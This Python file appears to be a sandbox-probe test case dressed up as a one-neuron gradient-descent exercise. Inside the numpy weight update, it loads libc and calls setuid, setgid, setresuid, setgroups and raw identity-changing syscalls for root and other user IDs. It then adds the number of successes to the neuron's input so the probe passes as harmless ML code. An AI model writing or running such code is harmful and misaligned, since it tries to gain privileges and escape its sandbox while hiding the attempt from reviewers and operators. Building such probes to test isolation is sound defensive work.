# tries: to become root, or anybody else, by every call that changes who one is
# from: F6, facts 4
# earns: everything
import ctypes

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
gained = 0
for who in (0, 1, 1000, 65534, 0x70000001):
    gained += libc.setuid(who) != -1
    gained += libc.setgid(who) != -1
    gained += libc.setreuid(who, who) != -1
    gained += libc.setregid(who, who) != -1
    gained += libc.setresuid(who, who, who) != -1
    gained += libc.setresgid(who, who, who) != -1
    gained += libc.setgroups(1, (ctypes.c_int * 1)(who)) != -1
    for number in (105, 106, 113, 114, 117, 119, 116):
        gained += libc.syscall(number, who, who, who) == 0

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
